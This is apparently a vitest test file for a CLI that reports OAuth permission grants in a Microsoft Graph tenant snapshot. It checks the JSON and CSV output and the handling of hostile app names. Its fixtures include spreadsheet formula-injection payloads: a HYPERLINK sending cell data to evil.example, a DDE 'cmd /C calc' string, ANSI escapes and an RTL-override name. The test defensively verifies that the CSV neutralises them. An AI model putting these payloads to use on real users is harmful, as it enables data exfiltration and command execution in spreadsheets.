/**
 * `appwatch consent-report` end to end through the CLI, on a hand-made snapshot in Graph's shapes
 * (tests/fixtures/posture/consent/snapshot.json), on Microsoft's own Graph documentation samples (when the shared
 * corpus is present) and on a simulated tenant:
 * - every row and every column, in JSON, JSON Lines and CSV, in the documented order;
 * - attacker-controlled names (formula, ANSI escapes, quotes, newlines) inert in the CSV, exact in the JSON;
 * - a snapshot without oauth2PermissionGrants, an unreadable snapshot (exit 2 naming the file), no source at all.
 */
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { classifyPermission } from '../../src/enrich/catalogue.js';
import { CONSENT_REPORT_COLUMNS, consentCsv, UNRESOLVED_APP_ROLE, type ConsentRow } from '../../src/posture/consent-report.js';
import { runCli } from '../helpers/cli.js';
import { CORPUS, HAS_CORPUS, ROOT } from '../helpers/ingest.js';

const DIR = resolve(ROOT, 'tests/fixtures/posture/consent');
const SNAPSHOT = join(DIR, 'snapshot.json');
const consentReport = (args: string[]): ReturnType<typeof runCli> => runCli(['consent-report', ...args]);

let work: string;
beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'appwatch-consent-'));
});
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

// The fixture's objects (ids as in the snapshot file).
const GRAPH = 'fea94d6d-b5bf-44d2-a887-4f72a8d74f44';
const PAYROLL = '3f6b2a8e-2c4d-4f1e-9b7a-6d5c4b3a2f10';
const HR = '8e881353-1735-45af-af21-ee1344582a4d';
const EVIL = 'b1c2d3e4-0000-4000-8000-000000000001';
const PLUS = 'b1c2d3e4-0000-4000-8000-000000000002';
const ZOE = 'b1c2d3e4-0000-4000-8000-000000000003';
const ADELE = 'c0ffee00-0000-4000-8000-0000000000a1';
const MEGAN = 'c0ffee00-0000-4000-8000-0000000000a2';
const UNKNOWN_USER = 'c0ffee00-0000-4000-8000-0000000000a3';
const EVIL_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Open")\u001b[2J\u001b[31mOK';
const PLUS_NAME = "+cmd|' /C calc'!A0";
const ZOE_NAME = "Zoë's Café Planner 日本";
const ADELE_NAME = 'Adele "AV" Vance\nIT';
const UNNAMED_ROLE = '4d2a8e11-9b7c-4f6e-a5d3-c2b1a0f9e8d7';

type Expected = [ConsentRow['PermissionType'], string, string, string, string, string, string, string, string, ConsentRow['Privilege']];

/** The report of snapshot.json, in order: privilege descending, then client name, resource, permission. */
const EXPECTED: Expected[] = [
  ['Application', PLUS, PLUS_NAME, GRAPH, 'Microsoft Graph', 'RoleManagement.ReadWrite.Directory', 'AllPrincipals', '', '', 'critical'],
  // '=' sorts before letters; the delegated row of a pair comes first (grants precede assignments in the snapshot).
  ['Delegated', EVIL, EVIL_NAME, GRAPH, 'Microsoft Graph', 'Mail.Send', 'Principal', ADELE, ADELE_NAME, 'high'],
  ['Delegated', HR, 'Contoso HR Sync', GRAPH, 'Microsoft Graph', 'Mail.ReadWrite', 'AllPrincipals', '', '', 'high'],
  ['Application', HR, 'Contoso HR Sync', GRAPH, 'Microsoft Graph', 'Mail.ReadWrite', 'AllPrincipals', '', '', 'high'],
  // An appRoleId the resource's appRoles do not name stays as the id.
  ['Application', HR, 'Contoso HR Sync', PAYROLL, 'Contoso Payroll API', UNNAMED_ROLE, 'AllPrincipals', '', '', 'medium'],
  // resourceDisplayName null on the assignment: the service principal's name.
  ['Application', HR, 'Contoso HR Sync', PAYROLL, 'Contoso Payroll API', 'Payroll.Export', 'AllPrincipals', '', '', 'medium'],
  // Two grants alike (same client, resource, scope, principal) are two rows; a principal without displayName: its UPN.
  ['Delegated', ZOE, ZOE_NAME, GRAPH, 'Microsoft Graph', 'Calendars.Read', 'Principal', MEGAN, 'MeganB@contoso.example', 'medium'],
  ['Delegated', ZOE, ZOE_NAME, GRAPH, 'Microsoft Graph', 'Calendars.Read', 'Principal', MEGAN, 'MeganB@contoso.example', 'medium'],
  ['Delegated', EVIL, EVIL_NAME, GRAPH, 'Microsoft Graph', 'offline_access', 'Principal', ADELE, ADELE_NAME, 'low'],
  // " User.Read openid profile Mail.ReadWrite": the leading space makes no empty permission.
  ['Delegated', HR, 'Contoso HR Sync', GRAPH, 'Microsoft Graph', 'openid', 'AllPrincipals', '', '', 'low'],
  ['Delegated', HR, 'Contoso HR Sync', GRAPH, 'Microsoft Graph', 'profile', 'AllPrincipals', '', '', 'low'],
  ['Delegated', HR, 'Contoso HR Sync', GRAPH, 'Microsoft Graph', 'User.Read', 'AllPrincipals', '', '', 'low'],
  // A principal the snapshot's directoryObjects do not hold: its id, no name.
  ['Delegated', ZOE, ZOE_NAME, GRAPH, 'Microsoft Graph', 'User.Read', 'Principal', UNKNOWN_USER, '', 'low'],
];
// Not in the report: the grant with an empty scope (HR Sync → Payroll API), and the user and group assigned to HR Sync.

function expectedRow(e: Expected): ConsentRow {
  const [PermissionType, ClientObjectId, ClientDisplayName, ResourceObjectId, ResourceDisplayName, Permission, ConsentType, PrincipalObjectId, PrincipalDisplayName, Privilege] = e;
  return {
    PermissionType, ClientObjectId, ClientDisplayName, ResourceObjectId, ResourceDisplayName, Permission, ConsentType, PrincipalObjectId, PrincipalDisplayName, Privilege,
    PrivilegeReason: Permission === UNNAMED_ROLE ? UNRESOLVED_APP_ROLE : classifyPermission(Permission).reason,
  };
}

/** Parses the CSV as Excel would, after checking the bytes around the records (BOM, CRLF). */
function parseCsv(text: string, bom = true): Record<string, string>[] {
  expect(text.startsWith('\uFEFF')).toBe(bom);
  const body = bom ? text.slice(1) : text;
  expect(body.endsWith('\r\n')).toBe(true);
  // Every line break is a record's end: no cell spans lines.
  expect(body.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  expect(body.split('\r\n')[0]).toBe(CONSENT_REPORT_COLUMNS.map((c) => `"${c}"`).join(','));
  return parse(body, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
}

describe('appwatch consent-report on a known snapshot', () => {
  it('writes one JSON row per permission, every column, in order, with a summary', async () => {
    const result = await consentReport(['--snapshot', SNAPSHOT, '--format', 'json']);
    expect(result.code, result.stderr).toBe(0);
    const report = JSON.parse(result.stdout) as { snapshot: Record<string, unknown>; summary: Record<string, unknown>; gaps: unknown[]; rows: ConsentRow[] };
    expect(report.snapshot).toEqual({ file: SNAPSHOT, tenantId: '5b4d9f8e-6a3c-4e2b-9d1f-0a8b7c6d5e4f', collectedAt: '2025-03-04T05:06:07.000Z' });
    expect(report.summary).toEqual({ rows: 13, delegated: 9, application: 4, byPrivilege: { low: 5, medium: 4, high: 3, critical: 1 }, unresolvedAppRoles: 1 });
    expect(report.gaps).toEqual([]);
    expect(report.rows.length).toBe(EXPECTED.length);
    EXPECTED.forEach((e, i) => {
      expect(Object.keys(report.rows[i]!), `row ${i}`).toEqual([...CONSENT_REPORT_COLUMNS]);
      expect(report.rows[i], `row ${i}`).toEqual(expectedRow(e));
    });
    // JSON keeps attacker-controlled names exactly (JSON.stringify escapes the control characters).
    expect(result.stdout).not.toContain('\u001b');
    expect(result.stdout).toContain('\\u001b[2J');
    expect(result.stderr).toContain('[+] 13 permissions granted (9 delegated, 4 application): 1 critical, 3 high (snapshot 2025-03-04T05:06:07.000Z)');
    expect(result.stderr).toContain('[!] 1 application permission not named');
  });

  it('writes the same rows as JSON Lines', async () => {
    const result = await consentReport(['--snapshot', SNAPSHOT, '--format', 'jsonl', '-q']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toBe('');
    const rows = result.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as ConsentRow);
    expect(rows).toEqual(EXPECTED.map(expectedRow));
  });

  it('writes CSV by default: BOM, RFC 4180 quoting, every row and column, names inert', async () => {
    const result = await consentReport(['--snapshot', SNAPSHOT]);
    expect(result.code, result.stderr).toBe(0);
    const records = parseCsv(result.stdout);
    expect(records.length).toBe(EXPECTED.length);
    // In the CSV, a cell a spreadsheet would run as a formula starts with ', and control characters are escapes.
    const csvValue = (v: string): string => {
      const line = v.replace(/\u001b/g, '\\u001b').replace(/\n/g, '\\n');
      return /^[=+\-@]/.test(line) ? `'${line}` : line;
    };
    EXPECTED.forEach((e, i) => {
      const row = expectedRow(e);
      expect(records[i], `row ${i}`).toEqual(Object.fromEntries(CONSENT_REPORT_COLUMNS.map((c) => [c, csvValue(row[c])])));
    });
    // Spelled out for the malicious names, as the bytes Excel reads.
    expect(result.stdout).toContain(`"Delegated","${EVIL}","'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")\\u001b[2J\\u001b[31mOK","${GRAPH}","Microsoft Graph","Mail.Send","Principal","${ADELE}","Adele ""AV"" Vance\\nIT","high",`);
    expect(result.stdout).toContain(`"Application","${PLUS}","'+cmd|' /C calc'!A0",`);
    expect(result.stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Non-ASCII names are UTF-8, as the BOM announces.
    expect(records[6]!.ClientDisplayName).toBe(ZOE_NAME);
  });

  it('writes --out FILE with the same bytes as stdout, and --no-bom drops only the BOM', async () => {
    const out = join(work, 'report.csv');
    const toFile = await consentReport(['--snapshot', SNAPSHOT, '--out', out, '-q']);
    expect(toFile.code, toFile.stderr).toBe(0);
    expect(toFile.stdout).toBe('');
    const stdout = await consentReport(['--snapshot', SNAPSHOT, '-q']);
    expect(await readFile(out, 'utf8')).toBe(stdout.stdout);
    const noBom = await consentReport(['--snapshot', SNAPSHOT, '--no-bom', '-q']);
    expect(noBom.stdout).toBe(stdout.stdout.slice(1));
    expect(parseCsv(noBom.stdout, false).length).toBe(EXPECTED.length);
  });

  it('reports the application rows of a snapshot without oauth2PermissionGrants, and says so', async () => {
    const result = await consentReport(['--snapshot', join(DIR, 'no-delegated-grants.json'), '--format', 'jsonl']);
    expect(result.code, result.stderr).toBe(0);
    const rows = result.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as ConsentRow);
    expect(rows).toEqual(EXPECTED.filter((e) => e[0] === 'Application').map(expectedRow));
    expect(result.stderr).toContain('no delegated grants in');
    expect(result.stderr).toContain('(oauth2PermissionGrants empty or absent)');
    expect(result.stderr).toContain('4 permissions granted (0 delegated, 4 application)');
  });

  it('warns when the collector could not read grants (gaps)', async () => {
    const snapshot = JSON.parse(await readFile(SNAPSHOT, 'utf8')) as Record<string, unknown>;
    snapshot.oauth2PermissionGrants = [];
    snapshot.gaps = [{ resource: '/oauth2PermissionGrants', status: 403, code: 'Authorization_RequestDenied', reason: 'Insufficient privileges to complete the operation.' }];
    const path = join(work, 'gap.json');
    await writeFile(path, JSON.stringify(snapshot));
    const result = await consentReport(['--snapshot', path, '--format', 'json']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('[!] incomplete: /oauth2PermissionGrants could not be read (Insufficient privileges to complete the operation.)');
    expect(result.stderr).not.toContain('no delegated grants');
    expect((JSON.parse(result.stdout) as { gaps: unknown[] }).gaps).toEqual(snapshot.gaps);
  });

  it('exits 2 naming the file when the snapshot is unreadable, and without a source', async () => {
    const bad = join(DIR, 'not-a-snapshot.json');
    const wrongShape = await consentReport(['--snapshot', bad]);
    expect(wrongShape.code).toBe(2);
    expect(wrongShape.stdout).toBe('');
    expect(wrongShape.stderr).toContain(`[x] snapshot ${bad}: servicePrincipals must be an array`);
    const notJson = join(work, 'broken.json');
    await writeFile(notJson, '{"applications": [');
    const broken = await consentReport(['--snapshot', notJson]);
    expect(broken.code).toBe(2);
    expect(broken.stderr).toContain(`snapshot ${notJson}: not JSON`);
    const missing = await consentReport(['--snapshot', join(work, 'absent.json')]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain(join(work, 'absent.json'));
    const none = await consentReport([]);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('give --snapshot FILE or --tenant ID');
    const format = await consentReport(['--snapshot', SNAPSHOT, '--format', 'table']);
    expect(format.code).toBe(2);
  });
});

describe('consent report CSV cells', () => {
  it('neutralises every formula trigger and keeps plain values', () => {
    const row = (name: string): ConsentRow => ({ ...expectedRow(EXPECTED[2]!), ClientDisplayName: name });
    const cell = (name: string): string => (parse(consentCsv([row(name)], false), { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[])[0]!.ClientDisplayName!;
    expect(cell('=1+1')).toBe("'=1+1");
    expect(cell('+1')).toBe("'+1");
    expect(cell('-')).toBe("'-");
    expect(cell('-2+3')).toBe("'-2+3");
    expect(cell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    // Tab and CR are folded or escaped before the check: they can no longer lead a cell.
    expect(cell('\t=1')).toBe(' =1');
    expect(cell('\r=1')).toBe('\\u000d=1');
    expect(cell('a "quoted", name')).toBe('a "quoted", name');
    expect(cell('Payroll \u202eexe.txt')).toBe('Payroll \\u202eexe.txt');
    expect(cell('')).toBe('');
  });
});

// Microsoft's Graph documentation examples, read in place: the report's shapes are Graph's own.
const SAMPLES = join(CORPUS, 'samples/microsoft-graph-docs/v1.0');
const HAS_SAMPLES = HAS_CORPUS && existsSync(join(SAMPLES, 'serviceprincipal-list-approleassignments.response.json'));
if (!HAS_SAMPLES) console.warn(`consent-report: skipping the Graph documentation samples test (${SAMPLES} not found)`);

describe.skipIf(!HAS_SAMPLES)('appwatch consent-report on Microsoft Graph documentation samples', () => {
  it('reads oauth2PermissionGrant and appRoleAssignment objects as Graph returns them', async () => {
    const value = async (name: string): Promise<Record<string, unknown>[]> => (JSON.parse(await readFile(join(SAMPLES, name), 'utf8')) as { value: Record<string, unknown>[] }).value;
    const assignments = await value('serviceprincipal-list-approleassignments.response.json');
    const assignedTo = await value('serviceprincipal-list-approleassignedto.response.json');
    const grants = await value('oauth2permissiongrant-list.response.json');
    const client = assignments[0]!;
    const snapshot = {
      tenantId: 'samples', collectedAt: '2021-02-03T00:00:00Z', applications: [],
      servicePrincipals: [
        { id: client.principalId, appId: 'b0b5a7a6-7d37-4f9d-9c25-5a55e0a7c0de', displayName: client.principalDisplayName, appRoles: [] },
        // Graph's service principal without appRoles: the role is named from appwatch's Graph catalogue.
        { id: client.resourceId, appId: '00000003-0000-0000-c000-000000000000', displayName: client.resourceDisplayName },
      ],
      oauth2PermissionGrants: grants,
      appRoleAssignments: [...assignments, ...assignedTo],
    };
    const path = join(work, 'samples.json');
    await writeFile(path, JSON.stringify(snapshot));
    const result = await consentReport(['--snapshot', path, '--format', 'jsonl']);
    expect(result.code, result.stderr).toBe(0);
    const rows = result.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as ConsentRow);
    expect(rows).toEqual([
      {
        PermissionType: 'Application', ClientObjectId: '8e881353-1735-45af-af21-ee1344582a4d', ClientDisplayName: 'dxprovisioning-graphapi-client',
        ResourceObjectId: 'fea94d6d-b5bf-44d2-a887-4f72a8d74f44', ResourceDisplayName: 'Microsoft Graph', Permission: 'Mail.ReadWrite',
        ConsentType: 'AllPrincipals', PrincipalObjectId: '', PrincipalDisplayName: '', Privilege: 'high', PrivilegeReason: classifyPermission('Mail.ReadWrite').reason,
      },
      // The docs' placeholders pass through as values; a consentType other than AllPrincipals keeps its principal.
      {
        PermissionType: 'Delegated', ClientObjectId: 'clientId-value', ClientDisplayName: '', ResourceObjectId: 'resourceId-value', ResourceDisplayName: '',
        Permission: 'scope-value', ConsentType: 'consentType-value', PrincipalObjectId: 'principalId-value', PrincipalDisplayName: '',
        Privilege: 'medium', PrivilegeReason: classifyPermission('scope-value').reason,
      },
    ]);
    // The user assigned to the app (appRoleAssignedTo, principalType User) is not a permission of an app.
    expect(result.stdout).not.toContain('MOD Administrator');
  });
});

describe('appwatch consent-report on a simulated tenant', () => {
  it('finds the simulated Mail.ReadWrite grant for all users as high', async () => {
    const dir = join(work, 'sim');
    const simulated = await runCli(['simulate', '--out', dir, '--days', '3', '--users', '20', '--apps', '4', '--seed', '1', '-q']);
    expect(simulated.code, simulated.stderr).toBe(0);
    const result = await consentReport(['--snapshot', join(dir, 'snapshot.json'), '--format', 'json']);
    expect(result.code, result.stderr).toBe(0);
    const report = JSON.parse(result.stdout) as { rows: ConsentRow[]; summary: { rows: number; delegated: number; application: number } };
    const snapshot = JSON.parse(await readFile(join(dir, 'snapshot.json'), 'utf8')) as { oauth2PermissionGrants: { clientId: string; scope: string; consentType: string }[]; servicePrincipals: { id: string; displayName: string }[] };
    const grant = snapshot.oauth2PermissionGrants.find((g) => g.consentType === 'AllPrincipals' && g.scope.split(' ').includes('Mail.ReadWrite'))!;
    expect(grant).toBeDefined();
    const row = report.rows.find((r) => r.PermissionType === 'Delegated' && r.Permission === 'Mail.ReadWrite' && r.ConsentType === 'AllPrincipals');
    expect(row).toMatchObject({
      ClientObjectId: grant.clientId, ClientDisplayName: snapshot.servicePrincipals.find((sp) => sp.id === grant.clientId)!.displayName,
      ResourceDisplayName: 'Microsoft Graph', PrincipalObjectId: '', PrincipalDisplayName: '', Privilege: 'high',
    });
    // One delegated row per scope of every grant.
    expect(report.summary.delegated).toBe(snapshot.oauth2PermissionGrants.reduce((n, g) => n + g.scope.split(/\s+/).filter(Boolean).length, 0));
    expect(result.stderr).toMatch(/\[\+\] \d+ permissions granted \(\d+ delegated, \d+ application\): \d+ critical, \d+ high/);
  });
});
